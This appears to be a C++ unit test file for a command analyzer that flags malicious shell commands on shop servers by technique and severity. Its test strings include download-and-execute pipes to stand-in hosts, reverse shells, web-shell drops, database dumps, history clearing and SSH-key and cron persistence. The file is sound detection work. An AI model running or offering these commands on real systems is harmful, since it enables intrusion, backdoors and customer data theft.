// Commands judged by technique: what a backdoor cron line or a hands-on session does is
// reported with its reason; the commands a shop runs every day are not.
#include <gtest/gtest.h>

#include "host/host.h"

namespace tq::host {
namespace {

TEST(Commands, DownloadAndRunIsCritical) {
  for (const char* c :
       {"curl -fsSL http://198.51.100.7/x.sh | sh", "wget -q -O- https://evil.example/a | bash",
        "(curl -s http://a.example/k||wget -q -O- http://a.example/k)|sudo /bin/sh",
        "bash <(curl -s https://x.example/i)", "sh -c \"$(wget -qO- http://x.example/p)\""}) {
    CommandVerdict v = AnalyzeCommand(c);
    EXPECT_EQ(v.severity, Severity::kCritical) << c;
    EXPECT_EQ(v.technique, "download_exec") << c;
  }
}

TEST(Commands, DecodeAndRunAndReverseShells) {
  EXPECT_EQ(AnalyzeCommand("echo cGhwIC1yICdldmFsKCk7Jw== | base64 -d | sh").technique,
            "decode_exec");
  EXPECT_EQ(AnalyzeCommand("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1").technique, "reverse_shell");
  EXPECT_EQ(AnalyzeCommand("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 "
                           "1234 >/tmp/f")
                .severity,
            Severity::kCritical);
  EXPECT_EQ(AnalyzeCommand("php -r '$s=fsockopen(\"203.0.113.5\",80);exec(\"/bin/sh -i <&3\");'")
                .severity,
            Severity::kCritical);
}

TEST(Commands, WritableAndHiddenPlaces) {
  EXPECT_EQ(AnalyzeCommand("php /var/www/shop/pub/media/.cache/x.php >/dev/null 2>&1").technique,
            "writable_exec");
  EXPECT_EQ(AnalyzeCommand("/dev/shm/.x/kworker -c /dev/shm/.x/c.json").severity, Severity::kHigh);
  EXPECT_EQ(
      AnalyzeCommand("wget http://x.example/s.txt -O /var/www/html/pub/media/s.php").technique,
      "download_drop");
}

TEST(Commands, DumpsTracksAndPersistence) {
  EXPECT_EQ(AnalyzeCommand("mysqldump -u root shop > /var/www/shop/pub/media/db.sql").severity,
            Severity::kHigh);
  EXPECT_EQ(AnalyzeCommand("mysqldump shop customer_entity > /root/c.sql").severity,
            Severity::kMedium);
  EXPECT_EQ(AnalyzeCommand("unset HISTFILE").technique, "cover_tracks");
  EXPECT_EQ(AnalyzeCommand("history -c").technique, "cover_tracks");
  EXPECT_EQ(AnalyzeCommand("echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys").technique,
            "persistence");
  EXPECT_EQ(AnalyzeCommand("(crontab -l; echo '* * * * * x') | crontab -").technique,
            "persistence");
  EXPECT_EQ(AnalyzeCommand("chattr +i /var/www/shop/index.php").technique, "persistence");
}

TEST(Commands, EverydayShopCommandsAreQuiet) {
  for (const char* c : {
           "/usr/bin/php /var/www/shop/bin/magento cron:run | grep -v \"Ran jobs by schedule\" "
           ">> /var/www/shop/var/log/magento.cron.log",
           "php /var/www/shop/update/cron.php >> /var/www/shop/var/log/update.cron.log",
           "curl -s https://shop.example/wp-cron.php?doing_wp_cron > /dev/null 2>&1",
           "wget -q -O - https://shop.example/wp-cron.php >/dev/null 2>&1",
           "cd /var/www/shop && git pull",
           "composer install --no-dev",
           "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
           "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
           "/usr/lib/php/sessionclean; fi",
           "certbot renew --quiet",
           "ls -la ~/.ssh",
           "vim /etc/nginx/sites-enabled/shop",
           "systemctl restart php8.2-fpm",
           "tail -f /var/log/nginx/access.log",
           "mysql -u shop -p shop",
           "sudo -u www-data php bin/magento cache:flush",
       }) {
    CommandVerdict v = AnalyzeCommand(c);
    EXPECT_TRUE(v.reasons.empty()) << c << " -> " << (v.reasons.empty() ? "" : v.reasons[0]);
  }
}

TEST(Commands, HostileBytesAreBounded) {
  std::string big(1 << 20, '|');
  EXPECT_TRUE(AnalyzeCommand(big).reasons.empty());
  std::string nul("curl http://x\0| sh", 18);
  EXPECT_EQ(AnalyzeCommand(nul).severity, Severity::kCritical);
  EXPECT_TRUE(AnalyzeCommand("\xff\xfe\x80").reasons.empty());
}

}  // namespace
}  // namespace tq::host
